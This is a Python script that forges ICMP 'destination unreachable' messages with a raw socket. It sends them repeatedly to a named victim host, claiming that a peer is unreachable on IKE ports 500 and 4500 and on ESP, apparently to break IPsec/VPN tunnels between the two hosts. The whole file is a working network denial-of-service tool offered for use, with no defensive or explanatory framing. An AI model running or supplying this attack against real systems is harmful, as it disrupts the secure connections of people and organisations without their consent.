#!/usr/bin/env python3
"""Forged ICMP errors: icmp.py PEER VICTIM COUNT says to VICTIM, in the name of the router, that PEER cannot be reached."""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_header(source, target, protocol, length):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 7, 0, 64, protocol, 0, socket.inet_aton(source),
                       socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def error(code, inner):
    head = struct.pack("!BBHI", 3, code, 0, 0)
    return struct.pack("!BBHI", 3, code, checksum(head + inner), 0) + inner


def main():
    peer, victim, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for i in range(count):
        for port in (500, 4500):
            udp = struct.pack("!HHHH", port, port, 100, 0)
            sender.sendto(error(i % 4, ip_header(victim, peer, 17, 108) + udp), (victim, 0))
        sender.sendto(error(i % 4, ip_header(victim, peer, 50, 108) + bytes(8)), (victim, 0))


main()
